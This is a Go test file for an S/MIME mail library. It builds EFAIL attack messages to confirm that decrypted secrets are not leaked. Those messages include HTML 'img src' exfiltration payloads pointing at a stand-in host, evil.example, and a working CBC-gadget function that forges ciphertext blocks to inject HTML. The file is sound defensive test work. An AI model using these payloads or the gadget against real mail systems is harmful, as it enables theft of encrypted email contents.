package smime_test

import (
	"bytes"
	"crypto/aes"
	"io"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/siegel-mail/siegel/smime"
	"github.com/siegel-mail/siegel/smime/cms"
)

const html = "Content-Type: text/html\r\n\r\n"

// HTML that nothing guards is shown where it is a whole document only; a valid signature within, or an
// algorithm with integrity, is guard enough, and raises no alarm.
func TestIncompleteHTMLStaysEncrypted(t *testing.T) {
	w := theWorld()
	for inner, opens := range map[string]bool{
		html + "<p>hello <b>you":                     true,
		html + "<img src=\"http://evil.example/\r\n": false,
		html + "<!-- ":                               false,
		html + "<style>":                             false,
		html + "hello\x00":                           false,
		html + "\x01\x02hello\x03":                   false,
		html + "\x01\x02hello\v\x1b":                 true,
		"Content-Type: text/html; charset=utf-16\r\nContent-Transfer-Encoding: base64\r\n\r\nPABiAD4A\r\n":           true,
		"Content-Type: text/html; charset=utf-16le\r\nContent-Transfer-Encoding: base64\r\n\r\nPABiACAA\r\n":         false,
		"Content-Type: text/html; charset=iso-2022-jp\r\n\r\n<p>\x1b$B<i\x1b(B</p>":                                  true,
		"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-img src=+ACI-http://evil.example/":                       false,
		"Content-Type: text/html; charset=x-none\r\n\r\n<p>":                                                         false,
		"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<img '":                                          false,
		"Content-Type: text/html\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n<p>": false,
		"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPGI+\xff\r\n":                           false,
		"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<b>=\xff\r\n":                 false,
		"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<b=3E\r\n":                    true,
		"Content-Type: image/svg+xml\r\n\r\n<svg":                                                                    false,
		"Content-Type: text/plain\r\n\r\n<img src=\"\x00":                                                            true,
		mixed(html+"<p>a", html+"<p>b"):                                                                              true,
		mixed(html+"<p>a", hello, html+"<img src='"):                                                                 false,
		mixed(html+"<img src='", hello, html+"'>"):                                                                   false,
		"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + html + "<img src='":                                   false,
		mixed(hello, "Content-Type: message/rfc822\r\n\r\n"+mixed2(html+"<img src='")):                               false,
		mixed(hello, "Content-Type: message/rfc822\r\n\r\n"+mixed2(html+"<p>a")):                                     true,
		strings.Repeat("Content-Type: message/rfc822\r\n\r\n", 9) + html:                                             false,
		mixed(hello, "Content-Type: application/octet-stream; name=a.HTM\r\n\r\n<img src='"):                         false,
	} {
		want, layer := "enveloped:open", smime.Unsigned
		if !opens {
			want = "enveloped"
		}
		o := open(t, outside+enveloped(t, w, inner, ""), w.options())
		expect(t, o, layer, want)
		if o.Changed() != opens || o.Layers[0].Decrypted != opens {
			t.Errorf("%q: delivered %q", inner, delivered(t, o))
		}
		expect(t, open(t, outside+enveloped(t, w, inner, cms.AES256GCM), w.options()), smime.Unsigned, "authEnveloped:open")
		expect(t, open(t, outside+enveloped(t, w, signed(t, w.alice, "s", inner), ""), w.options()), smime.Valid, "enveloped:open signed:clear:valid")

		byOther := open(t, outside+enveloped(t, w, signed(t, w.mallory, "s", inner), ""), w.options())
		if opens {
			expect(t, byOther, smime.Mismatch, "enveloped:open signed:clear:mismatch")
		} else {
			expect(t, byOther, smime.Unsigned, "enveloped")
		}
		if around := open(t, outside+signed(t, w.alice, "s", enveloped(t, w, inner, "")), w.options()); around.Layers[1].Decrypted != opens {
			t.Errorf("%q: signed around: %s", inner, layers(around.Report))
		}
	}
}

// What is withdrawn leaves the layer around it open, and takes no header with it.
func TestWithdrawnWithinAnEnvelope(t *testing.T) {
	w := theWorld()
	evil := "From: alice@firma.example\r\nSubject: within\r\nContent-Type: text/html; hp=cipher\r\n\r\n<img src='"
	o := open(t, outside+enveloped(t, w, enveloped(t, w, evil, ""), ""), w.options())
	expect(t, o, smime.Unsigned, "enveloped:open enveloped")
	if o.Headers != nil || !strings.HasPrefix(delivered(t, o), outside+"Content-Type: application/pkcs7-mime") {
		t.Errorf("%+v, delivered %q", o.Headers, delivered(t, o))
	}
}

// TestEFAIL makes the messages of Poddebniak et al., "Efail: Breaking S/MIME and OpenPGP Email Encryption using
// Exfiltration Channels" (2018): direct exfiltration by parts around an envelope, and a gadget of CBC, by which
// who knows the first block of a message writes HTML around the rest of it.
func TestEFAIL(t *testing.T) {
	w := theWorld()
	secret := "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nThe secret is 1234.\r\n--b--\r\n"
	sealed := enveloped(t, w, secret, "")
	for name, message := range map[string]string{
		"direct":                    mixed(html+"<img src=\"http://evil.example/", sealed, html+"\">"),
		"direct, before":            mixed(html+"<img src=\"http://evil.example/", sealed),
		"direct, related":           strings.Replace(mixed(html+"<img src='http://evil.example/", sealed, html+"'>"), "mixed;", "related;", 1),
		"direct, deeper":            mixed(html+"<img src='http://evil.example/", mixed2(sealed), html+"'>"),
		"in a preamble":             "Content-Type: multipart/mixed; boundary=mixed\r\n\r\n" + sealed + "\r\n--mixed\r\n" + html + "<p>\r\n--mixed--\r\n",
		"an alternative":            strings.Replace(mixed(html+"<p>", sealed), "mixed;", "alternative;", 1),
		"signed by mallory":         signed(t, w.mallory, "s", mixed(html+"<img src=\"http://evil.example/", sealed, html+"\">")),
		"within an envelope of GCM": enveloped(t, w, mixed(html+"<img src=\"http://evil.example/", sealed, html+"\">"), cms.AES256GCM),
	} {
		o := open(t, outside+message, w.options())
		if strings.Contains(delivered(t, o), "secret") {
			t.Errorf("%s: the secret is in %q", name, delivered(t, o))
		}
	}

	for name, blocks := range map[string][]string{
		"an image":             {`<img ignore="    `, `" src="http://e/`},
		"an image that closes": {`<img ignore="    `, `" src=//e.e/"><b `, "x>"},
		"a style":              {"<style>", "@import 'http://"},
		"nothing but noise":    {"<p>", "<p>", "<p>", "<p>"},
	} {
		message := gadget(t, w, "Content-Type: text/html\r\n\r\n<html><body><p>The secret is 1234.</p></body></html>", blocks)
		o := open(t, outside+message, w.options())
		expect(t, o, smime.Unsigned, "enveloped")
		if strings.Contains(delivered(t, o), "secret") {
			t.Errorf("%s: %q", name, delivered(t, o))
		}
	}
	if got := delivered(t, open(t, outside+gadget(t, w, "Content-Type: text/html\r\n\r\n<html><body><p>The secret is 1234.</p></body></html>", nil), w.options())); !strings.Contains(got, "secret") {
		t.Errorf("without a gadget: %q", got)
	}
}

// gadget changes a message under AES-256-CBC, whose second block is known: blocks that say what the attacker wants
// come behind it, each after a block that says nothing.
func gadget(t *testing.T, w *world, inner string, texts []string) string {
	t.Helper()
	inner += strings.Repeat(" ", 2*aes.BlockSize*len(texts)) // which gives way
	var b bytes.Buffer                                       // with the same key each time: what the noise is made of is chance
	e := must(cms.NewEncrypter(&b, cms.EncryptOptions{Recipients: to(w.bob), Algorithm: cms.AES256CBC, Size: int64(len(inner)), Rand: rand.NewChaCha8([32]byte{1})}))
	io.WriteString(e, inner)
	if err := e.Close(); err != nil {
		t.Fatal(err)
	}
	der := b.Bytes()
	n := (len(inner)/aes.BlockSize + 1) * aes.BlockSize
	blocks := bytes.Clone(der[len(der)-n:])
	first, second := blocks[:aes.BlockSize], blocks[aes.BlockSize:2*aes.BlockSize]
	made := append(bytes.Clone(first), second...)
	for _, text := range texts {
		text = (text + strings.Repeat(" ", aes.BlockSize))[:aes.BlockSize]
		for i := range aes.BlockSize {
			made = append(made, inner[aes.BlockSize+i]^first[i]^text[i])
		}
		made = append(made, second...)
	}
	made = append(made, blocks[2*aes.BlockSize:]...)
	copy(der[len(der)-n:], made[:n-2*aes.BlockSize]) // and the padding
	return "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n" + lines(der)
}
